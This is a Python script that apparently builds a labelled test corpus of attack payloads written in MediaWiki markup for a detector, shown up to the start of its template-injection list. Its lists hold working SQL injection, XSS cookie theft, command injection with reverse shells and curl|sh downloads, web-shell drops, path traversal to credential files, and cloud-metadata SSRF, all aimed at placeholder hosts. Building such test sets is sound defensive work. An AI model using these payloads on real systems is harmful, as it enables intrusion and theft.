"""Attack held-out corpus for the "wiki" theme (MediaWiki-style editor and talk pages).

Each value is a payload written for this corpus from an understanding of the
technique, placed in the fields and notations a wiki editor uses (infobox and
citation parameters, links and file names, tables, edit summaries, signatures,
search queries, Special:Import XML, e-mail forms).  The class names the context
the vulnerable application uses the value in, the technique, and an optional
encoding: "<context>-<technique>[+<encoding>]".  About 10% are "plain-" values
without wiki notation.  Hosts are attacker.example / 203.0.113.0/24 /
198.51.100.0/24; secrets are placeholders.

Output: attacks.jsonl next to this file.  Deterministic: fixed SEED, lists only.
"""
import json
import random
from pathlib import Path

SEED = 8902
PREFIX = "ha89"

TARGETS = {
    "sqli": 75, "xss": 75, "cmdi": 70, "traversal": 50, "ssrf": 50,
    "code": 75, "nosqli": 25, "crlf": 30, "ldap-xpath": 22,
}

# ---------------------------------------------------------------- sqli
SQLI = [
    ("search-union", "sleep%' UNION SELECT user_name,user_password,NULL FROM user-- -"),
    ("search-boolean", "Union Station' AND 1=1 AND '%'='"),
    ("search-time", "Köln' AND SLEEP(5)-- -"),
    ("title-error", "Union_Station' AND extractvalue(1,concat(0x7e,(SELECT user_password FROM user LIMIT 1)))-- -"),
    ("infobox-union", "{{Infobox person\n| name = Ada' UNION SELECT 1,group_concat(user_name,0x3a,user_email),3 FROM user#\n| occupation = Poet\n}}"),
    ("infobox-stacked", "| birth_place = Cork'; DROP TABLE revision;--"),
    ("cite-stacked", "{{cite web |url=https://www.example.org/a |title=x'); UPDATE \"user\" SET user_groups='sysop' WHERE user_name='Mallory';--}}"),
    ("oldid-boolean", "1123456789 OR 1=1"),
    ("oldid-union", "0 UNION SELECT old_text FROM text WHERE old_id=1"),
    ("category-boolean", "[[Category:1962 births' OR '1'='1]]"),
    ("sortkey-time", "{{DEFAULTSORT:O'Connor'||pg_sleep(10)||'}}"),
    ("summary-insert-subquery", "rv vandalism', (SELECT user_password FROM user WHERE user_id=1), '1')-- -"),
    ("signature-heavy-query", "~~~~' || (SELECT CASE WHEN (SELECT substr(user_password,1,1) FROM user WHERE user_id=1)='a' THEN randomblob(300000000) ELSE 1 END) || '"),
    ("search-time", "Union Station'; WAITFOR DELAY '0:0:7'--"),
    ("search-stacked-oob", "'; EXEC master..xp_cmdshell 'nslookup sqli.attacker.example'--"),
    ("title-union", "Main_Page' UNION SELECT banner,NULL FROM v$version--"),
    ("table-sort-orderby", "page_title,(CASE WHEN (SELECT substring(user_password,1,1) FROM user LIMIT 1)='b' THEN page_title ELSE page_len END)"),
    ("limit-error", "50 PROCEDURE ANALYSE(extractvalue(rand(),concat(0x3a,version())),1)"),
    ("search-boolean-blind", "Sleep' AND ASCII(SUBSTRING((SELECT user_password FROM user WHERE user_id=1),1,1))>64-- -"),
    ("title-error", "x' AND 1=CAST((SELECT string_agg(usename,',') FROM pg_user) AS int)--"),
    ("search-oob-unc", "' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT user_password FROM user LIMIT 1),'.sqli.attacker.example\\\\a'))-- -"),
    ("search-union-outfile", "' UNION SELECT '<?php system($_GET[\"c\"]); ?>',2 INTO OUTFILE '/var/www/w/images/x.php'-- -"),
    ("search-union", "zzz' UNION SELECT name, sql FROM sqlite_master-- "),
    ("title-union", "-1' UNION SELECT table_name,column_name FROM information_schema.columns WHERE table_schema=database()-- -"),
    ("search-error-doublequery", "' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT user()),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)-- -"),
    ("infobox-error", "| spouse = Anna' AND updatexml(1,concat(0x2e,(SELECT user_token FROM user WHERE user_id=1)),1)-- -"),
    ("search-error", "' HAVING 1=1--"),
    ("signature-boolean", "[[User:Mallory' OR user_name='WikiSysop'-- |Mallory]] ([[User talk:Mallory|talk]])"),
    ("search-union+comment", "'/**/UNION/**/SELECT/**/user_name,user_password/**/FROM/**/user#"),
    ("search-union+case", "' uNiOn SeLeCt user_name,user_password fRoM user-- -"),
    ("search-union+urlenc", "%27%20UNION%20SELECT%20user_name%2Cuser_password%20FROM%20user--%20-"),
    ("search-boolean+double-urlenc", "%2527%2520OR%25201%253D1--%2520-"),
    ("title-union+hex", "' UNION SELECT user_password,1 FROM user WHERE user_name=0x57696b695379736f70-- -"),
    ("search-boolean+char", "' OR user_name=CHAR(65,100,109,105,110)-- -"),
    ("search-union+versioned-comment", "' /*!50000UNION*/ /*!50000SELECT*/ 1,2,3-- -"),
    ("refname-boolean", "<ref name=\"smith' OR 1=1-- -\">Smith 2004, p. 12.</ref>"),
    ("table-union", "|-\n| 1998–99 || Marseille' UNION ALL SELECT NULL,NULL,@@version-- - || 34"),
    ("file-time", "[[File:x.jpg' AND (SELECT 5 FROM (SELECT SLEEP(5))a)-- -|thumb|caption]]"),
    ("namespace-boolean", "0) OR (1=1"),
    ("search-stacked-copy-program", "'; COPY (SELECT '') TO PROGRAM 'curl http://203.0.113.9/s|sh';--"),
    ("search-stacked-oob", "'; DECLARE @q varchar(99);SET @q='\\\\'+(SELECT TOP 1 name FROM sys.databases)+'.attacker.example\\x';EXEC master..xp_dirtree @q;--"),
    ("title-oob-http", "' || UTL_HTTP.REQUEST('http://oob.attacker.example/'||(SELECT user FROM dual)) || '"),
    ("title-time", "Sleep' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',8)--"),
    ("search-boolean-like", "%' AND (SELECT COUNT(*) FROM user WHERE user_name='WikiSysop' AND user_password LIKE ':B:a%')>0 AND '%'='"),
    ("plain-union", "' UNION SELECT NULL,username,password FROM users--"),
    ("plain-boolean", "admin' OR '1'='1' -- "),
    ("plain-time", "1 AND SLEEP(6)"),
    ("plain-stacked", "1; DROP TABLE page--"),
    ("plain-error", "1 AND 1=CAST(version() AS integer)"),
    ("plain-time", "1; IF (1=1) WAITFOR DELAY '0:0:5'--"),
    ("plain-boolean", "\" OR \"\"=\""),
    ("plain-union", "-1 UNION ALL SELECT 1,2,table_name FROM information_schema.tables"),
    ("summary-stacked", "/* Early life */ ce', 0); DELETE FROM recentchanges;-- -"),
    ("infobox-time", "| population_total = (SELECT IF(SUBSTR(@@version,1,1)='8',SLEEP(5),0))"),
    ("link-boolean", "[[Union Station' OR 'x'='x|the station]]"),
    ("search-heavy-query", "' AND 1=like('ABCDEFG',upper(hex(randomblob(200000000))))-- "),
    ("search-time-benchmark", "' OR BENCHMARK(50000000,MD5('x'))-- -"),
    ("title-error", "' AND 1=CONVERT(int,(SELECT TOP 1 user_name FROM [user]))--"),
    ("api-json-boolean+unicode-esc", "{\"action\":\"query\",\"titles\":\"Sleep\\u0027 OR \\u00271\\u0027=\\u00271\"}"),
    ("search-union+htmlent", "Union&#39; UNION SELECT user_name,user_password FROM user-- -"),
    ("infobox-union", "{{Infobox settlement\n| name = Springfield\n| country = US'\n UNION SELECT user_email,user_token FROM user#\n}}"),
    ("search-boolean", "Sleep\" OR \"a\"=\"a"),
    ("search-boolean-regexp", "' OR (SELECT user_name FROM user LIMIT 1) RLIKE '^Wiki'-- -"),
    ("search-stacked-file-read", "'; SELECT $$x$$||pg_read_file('/etc/passwd')--"),
]

SQLI_CTX = [
    ("infobox", "| name = %s"),
    ("cite", "{{cite web |url=https://www.example.org/news |title=%s}}"),
    ("search", "%s"),
    ("summary", "/* History */ %s"),
    ("link", "[[%s|see here]]"),
]
SQLI_CORE = [
    ("boolean", "Siobhán' OR 'a'='a"),
    ("union", "x' UNION SELECT user_name,user_email FROM user-- -"),
    ("time", "x' AND (SELECT 1 FROM (SELECT SLEEP(4))t)-- -"),
    ("error", "x' AND extractvalue(rand(),concat(0x5c,database()))-- -"),
    ("stacked", "x'; TRUNCATE TABLE watchlist;-- -"),
    ("time", "x' || (SELECT pg_sleep(6))::text || '"),
]


def tpl_sqli(rng):
    ctx, shape = rng.choice(SQLI_CTX)
    tech, core = rng.choice(SQLI_CORE)
    return "%s-%s" % (ctx, tech), shape % core


# ---------------------------------------------------------------- xss
XSS = [
    ("caption-script", "[[File:Eiffel Tower at night.jpg|thumb|<script>fetch('//attacker.example/c?'+document.cookie)</script>]]"),
    ("infobox-attr-breakout", "| image = x.jpg\" onerror=\"alert(document.domain)"),
    ("infobox-img-onerror", "| caption = The old mill <img src=x onerror=alert(1)>"),
    ("cite-js-url", "{{cite web |url=javascript:alert(document.cookie) |title=Official site}}"),
    ("extlink-js-url", "[javascript:fetch('https://attacker.example/'+localStorage.getItem('token')) official site]"),
    ("prose-svg-onload", "The logo <svg onload=alert(origin)> was redesigned in 2004."),
    ("talk-details-ontoggle", "<details open ontoggle=alert(1)>click to expand</details> ~~~~"),
    ("summary-iframe-js", "rv vandalism <iframe src=javascript:alert(1)>"),
    ("signature-overlay-event", "[[User:Eve|<span onmouseover=\"alert(1)\" style=\"position:fixed;inset:0\">Eve</span>]] ([[User talk:Eve|talk]])"),
    ("table-attr-event", "| style=\"background:#ffdddd\" onmouseover=\"alert(1)\" | Eliminated"),
    ("prose-css-expression", "<div style=\"width:expression(alert(1))\">Population table</div>"),
    ("extlink-data-url+base64", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">source</a>"),
    ("talk-mutation-noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>"),
    ("search-js-string", "Sleep';alert(document.cookie);//"),
    ("title-script-breakout", "</script><script>alert(1)</script>"),
    ("config-js-string", "\"-alert(1)-\""),
    ("search-js-template-literal", "${alert(document.domain)}"),
    ("talk-body-onload", "<body onload=alert(1)> ~~~~"),
    ("infobox-autofocus", "| name = <input autofocus onfocus=alert(1)>"),
    ("caption-video-onerror", "[[File:Clip.webm|thumb|<video><source onerror=\"alert(1)\"></video>]]"),
    ("prose-object-js", "<object data=\"javascript:alert(1)\"></object>"),
    ("talk-srcdoc+htmlent", "<iframe srcdoc=\"&lt;script&gt;alert(parent.document.cookie)&lt;/script&gt;\"></iframe>"),
    ("extlink-js-url+htmlent", "<a href=\"jav&#x61;script:alert(1)\">homepage</a>"),
    ("extlink-js-url+tab", "<a href=\"java&#9;script:alert(1)\">official site</a>"),
    ("summary-script+case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("search-script+urlenc", "%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E"),
    ("search-svg+double-urlenc", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("api-json-img+unicode-esc", "{\"summary\":\"\\u003cimg src=x onerror=alert(1)\\u003e\"}"),
    ("caption-img+js-unicode-esc", "<img src=x onerror=\\u0061lert(1)>"),
    ("infobox-img+htmlent", "| caption = <img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">"),
    ("prose-svg-script+htmlent", "<svg><script>alert&#40;1&#41;</script></svg>"),
    ("talk-onclick-atob+base64", "<a href=\"#\" onclick=\"eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))\">see diff</a> ~~~~"),
    ("caption-fromcharcode", "<img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>"),
    ("talk-form-phishing", "== Session expired ==\n<form action=\"https://attacker.example/phish\" method=\"post\">Please log in again: <input name=\"wpName\"> <input name=\"wpPassword\" type=\"password\"> <button>Log in</button></form> ~~~~"),
    ("prose-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("prose-base-hijack", "<base href=\"https://attacker.example/\">"),
    ("prose-stylesheet-inject", "<link rel=stylesheet href=https://attacker.example/x.css>"),
    ("prose-css-import", "<style>@import 'https://attacker.example/leak.css';</style>"),
    ("table-css-js-url", "| style=\"background:url(javascript:alert(1))\" | 2004"),
    ("refname-attr-breakout", "<ref name=\"x\" onmouseover=\"alert(1)\">Smith 2004.</ref>"),
    ("table-attr-event", "{| class=\"wikitable\" onmouseover=\"alert(document.cookie)\"\n! Year !! Title\n|}"),
    ("prose-onanimationstart", "<span style=\"animation-name:spin\" onanimationstart=\"alert(1)\">Étretat</span>"),
    ("prose-marquee-onstart", "<marquee onstart=alert(1)>Breaking news</marquee>"),
    ("caption-svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("prose-svg-animate-href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click for sources</text></a></svg>"),
    ("infobox-dynamic-import", "| image = <img src=\"x:x\" onerror=\"import('//attacker.example/m.js')\">"),
    ("talk-external-script", "Thanks for the help! <script src=//attacker.example/x.js></script> ~~~~"),
    ("editbox-textarea-breakout", "</textarea><script>alert(1)</script>"),
    ("title-breakout", "</title><script>alert(1)</script>"),
    ("search-attr-breakout", "\"><svg onload=alert(1)>"),
    ("search-attr-breakout", "'><img src=x onerror=alert(1)>"),
    ("prose-comment-breakout", "<!-- please don't change --><script>alert(1)</script><!-- -->"),
    ("prose-comment-breakout", "--><script>alert(document.domain)</script><!--"),
    ("prose-overlay-iframe", "<iframe src=\"https://attacker.example/\" style=\"position:fixed;top:0;left:0;width:100%;height:100%;border:0\"></iframe>"),
    ("talk-custom-tag-event", "<x onclick=alert(1)>click me</x> ~~~~"),
    ("extlink-vbscript-url", "<a href=\"vbscript:msgbox(1)\">archive</a>"),
    ("template-client-side", "{{constructor.constructor('alert(1)')()}}"),
    ("plain-script", "<script>alert(1)</script>"),
    ("plain-img-onerror", "<img src=1 onerror=confirm(1)>"),
    ("plain-svg-onload", "<svg/onload=prompt(1)>"),
    ("plain-js-url", "javascript:alert(document.cookie)"),
    ("plain-body-event", "<body onpageshow=alert(1)>"),
    ("plain-attr-breakout", "\" autofocus onfocus=alert(1) x=\""),
    ("plain-iframe-js", "<iframe src=javascript:alert(1)>"),
]

XSS_CTX = [
    ("infobox", "| caption = %s"),
    ("summary", "ce; %s"),
    ("talk", ":%s ~~~~"),
    ("caption", "[[File:Example.jpg|thumb|%s]]"),
]
XSS_CORE = [
    ("img-onerror", "<img src=x onerror=alert(document.cookie)>"),
    ("svg-onload", "<svg onload=fetch('//attacker.example/?'+document.cookie)>"),
    ("script", "<script>new Image().src='//attacker.example/l?c='+document.cookie</script>"),
    ("iframe-js", "<iframe src=\"javascript:alert(origin)\"></iframe>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
]


def tpl_xss(rng):
    ctx, shape = rng.choice(XSS_CTX)
    tech, core = rng.choice(XSS_CORE)
    return "%s-%s" % (ctx, tech), shape % core


# ---------------------------------------------------------------- cmdi
CMDI = [
    ("file-subst", "[[File:$(curl -s http://203.0.113.10/x|sh).jpg|thumb]]"),
    ("file-separator", "[[File:x.jpg;wget http://attacker.example/a -O /tmp/a;sh /tmp/a;.jpg]]"),
    ("highlight-lang-separator", "<syntaxhighlight lang=\"python; id > /tmp/pwn #\">print(1)</syntaxhighlight>"),
    ("highlight-lang-backtick", "<syntaxhighlight lang=\"`nc 203.0.113.5 4444 -e /bin/sh`\">x</syntaxhighlight>"),
    ("thumb-param-subst", "[[File:Report.pdf|200px|page=1$(sleep 10)]]"),
    ("infobox-pipe", "| image_size = 250x250 | nc 198.51.100.3 9001 < /etc/passwd"),
    ("math-tex-write18", "<math>\\immediate\\write18{id > /tmp/x}</math>"),
    ("math-tex-pipe-input", "<math>\\input{|\"curl attacker.example/t|sh\"}</math>"),
    ("score-scheme-system", "<score>\\relative c' { c d e } #(system \"id\")</score>"),
    ("search-quote-breakout", "sleep' /dev/null; cat /etc/passwd #"),
    ("search-and-subst", "union station && curl http://attacker.example/$(whoami)"),
    ("search-or", "x || ping -c 3 203.0.113.7"),
    ("search-newline", "Union Station\nid"),
    ("search-ifs", "x;cat${IFS}/etc/passwd"),
    ("search-brace-expansion", "x;{cat,/etc/shadow}"),
    ("search-newline+urlenc", "Sleep%0aid"),
    ("search-pipe-sh+urlenc", "x%3Bcurl%20http%3A%2F%2Fattacker.example%2Fs%7Csh"),
    ("search-separator+double-urlenc", "x%253Bid"),
    ("file-quote-split", "x.jpg;c''at /e't'c/pa''sswd"),
    ("file-backslash-split", "x.png;w\\ho\\am\\i"),
    ("search-printf-hex", "$(printf '\\x69\\x64')"),
    ("summary-pipe-sh+base64", "x;echo Y3VybCBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS9zIHwgc2g= | base64 -d | sh"),
    ("file-win-type", "x.jpg & type C:\\Windows\\win.ini"),
    ("file-win-powershell", "x.jpg | powershell -nop -c \"iwr http://203.0.113.8/p.ps1|iex\""),
    ("search-win-caret", "x & w^h^o^a^m^i"),
    ("file-reverse-shell", "x.jpg;bash -c 'bash -i >& /dev/tcp/203.0.113.12/443 0>&1'"),
    ("highlight-lang-python-shell", "<syntaxhighlight lang='text;python3 -c \"import socket,os,pty;s=socket.socket();s.connect((\\\"198.51.100.20\\\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\\\"sh\\\")\"'>x</syntaxhighlight>"),
    ("search-time", "Köln|sleep 7|"),
    ("file-dns-exfil", "[[File:x.jpg;nslookup $(hostname).cmd.attacker.example;.jpg]]"),
    ("summary-backtick", "/* Plot */ trim `curl attacker.example/x|sh`"),
    ("export-arg-injection", "--upload-pack=touch /tmp/pwned"),
    ("export-tar-checkpoint", "--checkpoint=1 --checkpoint-action=exec=sh /var/www/w/images/s.sh"),
    ("upload-mvg-delegate", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://attacker.example/x.jpg\"|curl \"attacker.example/s|sh)'\npop graphic-context"),
    ("search-env-exfil", "$(env | curl -X POST --data-binary @- https://attacker.example/e)"),
    ("file-perl", "x.gif;perl -e 'system(\"id\")'"),
    ("infobox-newline", "| name = Ada\ntouch /tmp/owned\n| occupation = poet"),
    ("search-path-substring", "x;cat${PATH:0:1}etc${PATH:0:1}passwd"),
    ("search-glob", "x;/???/c?t /e??/p?ss??"),
    ("file-devtcp", "x.jpg;exec 3<>/dev/tcp/attacker.example/80;echo -e \"GET /x HTTP/1.0\\n\" >&3"),
    ("search-quote-breakout", "a'; rm -rf ~/public_html; echo '"),
    ("search-dquote-breakout", "\"; shutdown -h now; \""),
    ("highlight-start-subst", "<syntaxhighlight lang=\"text\" line start=\"1$(id)\">x</syntaxhighlight>"),
    ("file-win-certutil", "x.jpg & certutil -urlcache -split -f http://203.0.113.4/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe"),
    ("search-time-ifs", "$(sleep${IFS}9)"),
    ("file-webshell-drop+base64", "x.jpg;echo PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg== | base64 -d > /var/www/w/images/c.php"),
    ("plain-separator", "; id"),
    ("plain-pipe", "| cat /etc/passwd"),
    ("plain-subst", "$(whoami)"),
    ("plain-backtick", "`uname -a`"),
    ("plain-win-delay", "&& ping -n 5 127.0.0.1"),
    ("plain-time", "; sleep 10 #"),
    ("plain-and", "&& curl http://203.0.113.50/i | sh"),
    ("plain-newline", "\nwget -q -O- http://attacker.example/b | bash"),
    ("search-newline-read+urlenc", "Union%0Acat%20/etc/passwd"),
    ("file-newline", "x.jpg\n/bin/sh -c \"curl 198.51.100.9|sh\""),
    ("search-ansi-c-quoting", "x;$'\\x63\\x61\\x74' /etc/passwd"),
    ("table-cell-subst", "|-\n| 2004 || $(curl -d @/etc/passwd https://attacker.example/u) || Maria"),
    ("cite-url-subst", "{{cite web |url=https://www.example.org/$(id) |title=Archive}}"),
    ("category-backtick", "[[Category:`wget -qO- 203.0.113.14/i|sh`]]"),
]

CMDI_CTX = [
    ("file", "[[File:%s|thumb]]"),
    ("search", "%s"),
    ("highlight-lang", "<syntaxhighlight lang=\"%s\">x</syntaxhighlight>"),
    ("summary", "/* Career */ %s"),
]
CMDI_CORE = [
    ("separator", "a;curl -s http://203.0.113.21/r|sh"),
    ("subst", "a$(cat /etc/hostname)"),
    ("and", "a && id"),
    ("pipe", "a | nc 198.51.100.30 4444 -e /bin/bash"),
    ("backtick", "a`sleep 8`"),
]


def tpl_cmdi(rng):
    ctx, shape = rng.choice(CMDI_CTX)
    tech, core = rng.choice(CMDI_CORE)
    return "%s-%s" % (ctx, tech), shape % core


# ---------------------------------------------------------------- traversal
TRAVERSAL = [
    ("file-dotdot", "[[File:../../../../etc/passwd]]"),
    ("media-dotdot+urlenc", "[[Media:..%2F..%2F..%2FLocalSettings.php]]"),
    ("filepath-nested-strip", "....//....//....//etc/passwd"),
    ("infobox-image-win", "| image = ..\\..\\..\\windows\\win.ini"),
    ("file-dotdot+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow"),
    ("file-dotdot+double-urlenc", "%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("file-dotdot+overlong", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("file-dotdot+fullwidth", "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc/hosts"),
    ("infobox-image-absolute", "| image = /proc/self/environ"),
    ("file-proc-cwd", "[[File:/proc/self/cwd/LocalSettings.php]]"),
    ("file-null-byte", "../../../../etc/passwd%00.jpg"),
    ("uselang-dotdot", "../../../../../tmp/uploads/evil"),
    ("useskin-dotdot", "../../images/a/ab/Evil"),
    ("template-file-dotdot", "{{../../../../etc/passwd}}"),
    ("upload-zipslip", "../../../../var/www/w/images/shell.php"),
    ("file-win-dotdot", "..\\..\\..\\..\\boot.ini"),
    ("file-win-absolute", "C:\\inetpub\\wwwroot\\web.config"),
    ("file-path-param", "..;/..;/WEB-INF/web.xml"),
    ("file-prefix-bypass", "/var/www/w/images/../../../../etc/passwd"),
    ("thumb-dotdot", "images/../../../../../etc/passwd"),
    ("file-win-dotdot+urlenc", "..%5c..%5c..%5cwindows%5csystem32%5cconfig%5csam"),
    ("file-dotdot+iis-unicode", "..%u2216..%u2216..%u2216etc/passwd"),
    ("file-dotdot+partial-urlenc", "%2e%2e/%2e%2e/%2e%2e/home/wiki/.ssh/authorized_keys"),
    ("include-php-filter", "php://filter/convert.base64-encode/resource=LocalSettings.php"),
    ("file-deep-dotdot", "/../../../../../../../../etc/passwd"),
    ("file-double-slash", "....//....//....//etc//passwd"),
    ("file-ssh-key", "../../../../../../root/.ssh/id_rsa"),
    ("file-git-config", "[[File:../../../.git/config]]"),
    ("file-dotsegment+urlenc", "/.%2e/.%2e/.%2e/etc/passwd"),
    ("export-filename-dotdot", "| filename = ../../../../home/www/.bash_history"),
    ("thumb-query-dotdot", "thumb.php?f=../../../../etc/passwd&w=120"),
    ("file-suffix-dotdot", "[[File:Example.jpg/../../../../../../etc/hosts]]"),
    ("file-dotdot+double-urlenc", "..%252f..%252f..%252fetc%252fpasswd"),
    ("file-dots+overlong", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("caption-file-dotdot", "[[File:../../../../../var/log/nginx/access.log|thumb|Access log]]"),
    ("include-data-wrapper+base64", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="),
    ("include-phar-deser", "phar:///var/www/w/images/a/ab/avatar.jpg/x.txt"),
    ("file-win-mixed-slash", "..\\../..\\../windows/system32/drivers/etc/hosts"),
    ("highlight-src-dotdot", "<syntaxhighlight lang=\"php\" src=\"../../../LocalSettings.php\"></syntaxhighlight>"),
    ("plain-dotdot", "../../../etc/passwd"),
    ("plain-win-dotdot", "..\\..\\..\\..\\windows\\win.ini"),
    ("plain-absolute", "/etc/shadow"),
    ("plain-proc", "../../../../proc/self/environ"),
    ("plain-dotdot+urlenc", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
]

TRAV_CTX = [
    ("file", "[[File:%s|thumb]]"),
    ("infobox-image", "| image = %s"),
    ("media", "[[Media:%s|download]]"),
]
TRAV_CORE = [
    ("dotdot", "../../../../../../etc/group"),
    ("dotdot", "../../../../../var/www/w/LocalSettings.php"),
    ("win-dotdot", "..\\..\\..\\..\\..\\Windows\\System32\\config\\SYSTEM"),
    ("dotdot", "../../../../../../proc/self/cmdline"),
    ("dotdot+urlenc", "..%2F..%2F..%2F..%2Fetc%2Fmachine-id"),
]


def tpl_traversal(rng):
    ctx, shape = rng.choice(TRAV_CTX)
    tech, core = rng.choice(TRAV_CORE)
    return "%s-%s" % (ctx, tech), shape % core


# ---------------------------------------------------------------- ssrf
SSRF = [
    ("cite-url-cloud-metadata", "{{cite web |url=http://169.254.169.254/latest/meta-data/iam/security-credentials/ |title=Source |access-date=2023-01-01}}"),
    ("cite-url-gcp-metadata", "{{cite web |url=http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token |title=Archived}}"),
    ("upload-url-gopher-redis", "gopher://127.0.0.1:6379/_SET%20pwn%20%22%5Cn*/1%20*%20*%20*%20*%20curl%20attacker.example/c|sh%5Cn%22%0D%0ACONFIG%20SET%20dir%20/var/spool/cron%0D%0ASAVE%0D%0A"),
    ("cite-url-localhost", "{{cite web |url=http://localhost:8080/admin/ |title=Admin}}"),
    ("upload-url-ipv6-loopback", "http://[::1]/server-status"),
    ("cite-url-loopback+ip-decimal", "{{cite web |url=http://2130706433/ |title=Home}}"),
    ("upload-url-loopback+ip-hex", "http://0x7f000001/"),
    ("upload-url-loopback+ip-octal", "http://0177.0.0.1/"),
    ("cite-url-loopback-short", "{{cite web |url=http://127.1/ |title=Homepage}}"),
    ("upload-url-zero-host", "http://0/"),
    ("cite-url-dns-to-loopback", "{{cite web |url=http://127.0.0.1.attacker.example/ |title=Mirror}}"),
    ("cite-url-fragment-confusion", "{{cite web |url=http://127.0.0.1#@www.example.org/ |title=Example}}"),
    ("cite-url-userinfo-confusion", "{{cite web |url=https://www.example.org@169.254.169.254/latest/user-data |title=Example}}"),
    ("upload-url-file-scheme", "file:///etc/passwd"),
    ("upload-url-file-win", "file://localhost/c:/windows/win.ini"),
    ("upload-url-dict", "dict://127.0.0.1:11211/stats"),
    ("upload-url-gopher-smtp", "gopher://127.0.0.1:25/_HELO%20wiki%0D%0AMAIL%20FROM:%3Cwiki@example.org%3E%0D%0ARCPT%20TO:%3Cvictim@example.org%3E%0D%0ADATA%0D%0ASubject:%20hi%0D%0A%0D%0Aclick%0D%0A.%0D%0A"),
    ("cite-url-ipv4-mapped", "{{cite web |url=http://[0:0:0:0:0:ffff:127.0.0.1]/ |title=Site}}"),
    ("cite-url-aws-ipv6-metadata", "{{cite web |url=http://[fd00:ec2::254]/latest/meta-data/ |title=Docs}}"),
    ("upload-url-alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("cite-url-azure-metadata", "{{cite web |url=http://169.254.169.254/metadata/instance?api-version=2021-02-01 |title=Instance}}"),
    ("cite-url-open-redirect", "{{cite web |url=https://redirect.attacker.example/302?to=http://169.254.169.254/latest/meta-data/ |title=Press release}}"),
    ("cite-url-internal-service", "{{cite web |url=http://10.0.0.5:9200/_cat/indices?v |title=Index}}"),
    ("upload-url-router", "http://192.168.1.1/cgi-bin/luci"),
    ("cite-url-k8s-api", "{{cite web |url=https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets |title=Cluster}}"),
    ("upload-url-docker-api", "http://127.0.0.1:2375/containers/json?all=1"),
    ("upload-url-loopback+urlenc", "http://%31%32%37%2e%30%2e%30%2e%31/"),
    ("cite-url-loopback+enclosed-alnum", "{{cite web |url=http://①②⑦.⓪.⓪.①/ |title=Official}}"),
    ("upload-url-loopback+ip-dotted-hex", "http://0x7f.0x0.0x0.0x1/"),
    ("upload-url-loopback+ip-octal", "http://017700000001/"),
    ("cite-url-port-scan", "{{cite web |url=http://127.0.0.1:22/ |title=SSH}}"),
    ("upload-url-jar", "jar:http://attacker.example/x.jar!/a.class"),
    ("upload-url-netdoc", "netdoc:///etc/passwd"),
    ("upload-url-unc-smb", "\\\\198.51.100.4\\share\\logo.png"),
    ("cite-url-internal-api", "{{cite web |url=http://localhost/w/api.php?action=userrights&user=Mallory&add=sysop&token=%2B%5C |title=API}}"),
    ("upload-url-metadata+ipv6-hex", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("cite-url-consul", "{{cite web |url=http://0.0.0.0:8500/v1/kv/?recurse |title=Config}}"),
    ("upload-url-couchdb", "http://localhost:5984/_all_dbs"),
    ("infobox-website-metadata", "| website = {{URL|http://169.254.169.254/latest/meta-data/}}"),
    ("extlink-metadata", "[http://169.254.169.254/latest/dynamic/instance-identity/document official site]"),
    ("cite-archive-url-loopback", "{{cite web |url=https://www.example.org/ |archive-url=http://127.0.0.1:8983/solr/admin/cores?action=STATUS |title=Old}}"),
    ("plain-loopback", "http://127.0.0.1/"),
    ("plain-cloud-metadata", "http://169.254.169.254/latest/meta-data/"),
    ("plain-file-scheme", "file:///proc/self/environ"),
    ("plain-gopher", "gopher://localhost:6379/_INFO"),
    ("plain-loopback+ip-decimal", "http://2130706433:8080/"),
]

SSRF_CTX = [
    ("cite-url", "{{cite web |url=%s |title=Source}}"),
    ("upload-url", "%s"),
    ("extlink", "[%s homepage]"),
]
SSRF_CORE = [
    ("cloud-metadata", "http://169.254.169.254/latest/api/token"),
    ("loopback", "http://127.0.0.1:9000/minio/admin/v3/info"),
    ("internal-service", "http://172.16.0.10:8080/actuator/env"),
    ("loopback+ip-decimal", "http://2130706433:6379/"),
    ("private-net", "http://10.1.2.3/admin/config.php"),
]


def tpl_ssrf(rng):
    ctx, shape = rng.choice(SSRF_CTX)
    tech, core = rng.choice(SSRF_CORE)
    return "%s-%s" % (ctx, tech), shape % core


# ---------------------------------------------------------------- code
CODE = [
    ("infobox-ssti-jinja", "| name = {{ config.items() }}"),
    ("infobox-ssti-jinja", "{{Infobox person\n| name = {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}\n}}"),
    ("talk-ssti-jinja", "{{ cycler.__init__.__globals__.os.popen('curl attacker.example/s|sh').read() }} ~~~~"),
